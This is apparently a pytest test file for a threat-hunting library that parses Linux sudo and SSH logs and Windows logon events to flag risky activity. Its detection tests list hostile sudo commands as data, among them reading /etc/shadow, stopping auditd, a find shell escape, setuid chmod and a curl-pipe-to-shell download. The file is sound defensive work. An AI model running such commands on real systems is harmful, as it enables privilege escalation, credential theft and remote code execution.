"""Linux logons, sudo and its sessions: exact pairs at one instant, reasons for risks, guessed passwords."""

from __future__ import annotations

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from huntlens.analyze import logon_sessions, syslog
from huntlens.providers import QueryProvider

DAY = pd.Timestamp("2026-03-01")


def log(*lines: tuple[int, str]) -> pd.DataFrame:
    frame = pd.DataFrame(lines, columns=["TimeGenerated", "SyslogMessage"])
    return frame.assign(TimeGenerated=DAY + pd.to_timedelta(frame["TimeGenerated"], unit="s"), Computer="web01")


def command(text: str, *, user: str = "bob", refused: str = "") -> str:
    return f"{user} : {refused + ' ; ' if refused else ''}TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND={text}"


OPENED = "pam_unix(sudo:session): session opened for user root by bob(uid=1000)"
CLOSED = "pam_unix(sudo:session): session closed for user root"


def test_commands() -> None:
    found = syslog.sudo(
        log((0, command("/bin/ls -l ; x")), (1, command("/bin/su", refused="3 incorrect password attempts")))
    )
    assert found[["user", "target", "terminal", "folder", "command", "refused"]].values.tolist() == [
        ["bob", "root", "pts/0", "/home/bob", "/bin/ls -l ; x", ""],
        ["bob", "root", "pts/0", "/home/bob", "/bin/su", "3 incorrect password attempts"],
    ]


def test_sessions_take_their_commands_and_keep_what_is_half() -> None:
    found = syslog.sudo_sessions(log((0, CLOSED), (5, command("/bin/a")), (5, OPENED), (8, CLOSED), (9, OPENED)))
    assert found["commands"].tolist() == [["/bin/a"], [], []]
    assert found["duration"].dt.total_seconds().fillna(-1).tolist() == [3, -1, -1]
    assert found["start"].isna().tolist() == [False, False, True]


@given(st.integers(1, 30), st.integers(0, 3))
def test_sessions_of_one_instant_stay_apart(count: int, gap: int) -> None:
    lines = [(n * gap, text) for n in range(count) for text in (command(f"/bin/c{n}"), OPENED, CLOSED)]
    found = syslog.sudo_sessions(log(*lines))
    assert found["commands"].tolist() == [[f"/bin/c{n}"] for n in range(count)]
    assert found["end"].notna().all()


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ("/bin/bash", "opens a root shell"),
        ("/usr/bin/cat /etc/shadow", "reads or changes the password hashes"),
        ("/bin/systemctl stop auditd", "stops logging or protection"),
        ("/usr/bin/find . -exec /bin/sh ;", "breaks out of a program into a shell"),
        ("/bin/chmod u+s /tmp/x", "sets a program to run as its owner"),
        ("/bin/sh -c 'curl http://198.51.100.7/x | sh'", "runs what it downloads or decodes"),
    ],
)
def test_risks_have_reasons(line: str, reason: str) -> None:
    assert reason in syslog.risky(log((0, command(line))))["reasons"][0]


def test_what_is_harmless_is_left_out_and_a_refusal_counts() -> None:
    rows = log((0, command("/bin/ls")), (1, command("/bin/ls", refused="user NOT in sudoers")))
    assert syslog.risky(rows)[["score", "reasons", "row"]].values.tolist() == [[3, ["was refused"], 1]]


def test_a_guessed_password() -> None:
    failed = "Failed password for root from 203.0.113.9 port 1 ssh2"
    rows = log(*((n, failed) for n in range(6)), (7, failed.replace("Failed", "Accepted")), (8, "noise"))
    found = syslog.guessed(rows)
    assert found[["account", "address", "failures"]].values.tolist() == [["root", "203.0.113.9", 6]]
    assert syslog.guessed(rows, failures=7).empty
    assert logon_sessions.clusters(syslog.logons(rows), ["account", "success"], time="time")["logons"].tolist() == [
        1,
        6,
    ]


def test_windows_sessions_end_before_the_next_logon_of_the_id() -> None:
    rows = pd.DataFrame(
        [(0, 4624, "0xA"), (5, 4634, "0xa"), (9, 4624, "0xa"), (20, 4624, "0xa"), (30, 4647, "0xA"), (1, 4624, "0xb")],
        columns=["TimeGenerated", "EventID", "TargetLogonId"],
    )
    rows["TimeGenerated"] = DAY + pd.to_timedelta(rows["TimeGenerated"], unit="s")
    found = logon_sessions.sessions(rows.assign(Computer="H", TargetUserName="bob", LogonType="3", IpAddress="-"))
    assert found["duration"].dt.total_seconds().fillna(-1).tolist() == [5, -1, -1, 10]
    assert found["row"].tolist() == [0, 5, 2, 3]
    assert (found["type_name"].tolist(), found["address"].tolist()) == (["Network"] * 4, [""] * 4)
    assert logon_sessions.clusters(found)["logons"].tolist() == [4]


EVENTS = st.lists(
    st.tuples(st.integers(0, 30), st.sampled_from([4624, 4634, 4647, 4688]), st.sampled_from("ab")), max_size=25
)


@given(EVENTS)
def test_windows_sessions_as_a_slow_search_pairs_them(events: list[tuple[int, int, str]]) -> None:
    """A logon ends with the first logoff of its id, unless another logon of the id comes before."""
    rows = pd.DataFrame(events, columns=["TimeGenerated", "EventID", "TargetLogonId"])
    rows["TimeGenerated"] = DAY + pd.to_timedelta(rows["TimeGenerated"], unit="s")
    found = logon_sessions.sessions(rows.assign(Computer="h", LogonType=3))
    starts = sorted((at, n) for n, (at, kind, _) in enumerate(events) if kind == 4624)
    assert found["row"].tolist() == [n for _, n in starts]
    for (at, n), end in zip(starts, found["end"], strict=True):
        ends = [when for when, kind, one in events if kind in (4634, 4647) and one == events[n][2] and when >= at]
        after = [when for when, m in starts if (when, m) > (at, n) and events[m][2] == events[n][2]]
        expected = min(ends, default=None)
        expected = None if expected is None or (after and expected > after[0]) else expected
        assert (None if pd.isna(end) else (end - DAY).total_seconds()) == expected


RAW = """\
Mar  1 10:00:00 web01 sshd[41]: Failed password for invalid user admin from 203.0.113.9 port 4711 ssh2
Mar  1 10:00:05 web01 sshd[42]: Accepted publickey for bob from 10.0.0.7 port 4712 ssh2: RSA SHA256:abc
Mar  1 10:01:00 web01 sudo:      bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/sbin/visudo
Mar  1 10:01:00 web01 sudo: pam_unix(sudo:session): session opened for user root by bob(uid=0)
Mar  1 10:01:09 web01 sudo: pam_unix(sudo:session): session closed for user root
"""


def test_a_raw_file(tmp_path) -> None:
    """A local provider makes Syslog rows of a file; these functions read them."""
    path = tmp_path / "auth.log"
    path.write_text(RAW, encoding="utf-8")
    provider = QueryProvider("local", data=[str(path)])
    try:
        rows = provider.exec_query("Syslog").df
    finally:
        provider.close()
    assert syslog.logons(rows)[["account", "address", "success"]].values.tolist() == [
        ["admin", "203.0.113.9", False],
        ["bob", "10.0.0.7", True],
    ]
    assert syslog.risky(rows)["reasons"].tolist() == [["changes who may use sudo"]]
    found = syslog.sudo_sessions(rows)
    assert found[["user", "target", "commands"]].values.tolist() == [["bob", "root", ["/usr/sbin/visudo"]]]
    assert found["duration"].dt.total_seconds().tolist() == [9]


@given(st.lists(st.text(max_size=80), max_size=6))
def test_hostile_lines_never_fail(texts: list[str]) -> None:
    rows = log(
        *((n, prefix + text) for n, text in enumerate(texts) for prefix in ("", "a : TTY=", "Failed password for "))
    )
    assert len(syslog.sudo_sessions(rows)) == 0
    assert syslog.risky(rows).columns.tolist() == list(syslog.RISKS)
    assert len(syslog.logons(rows)) <= len(rows)
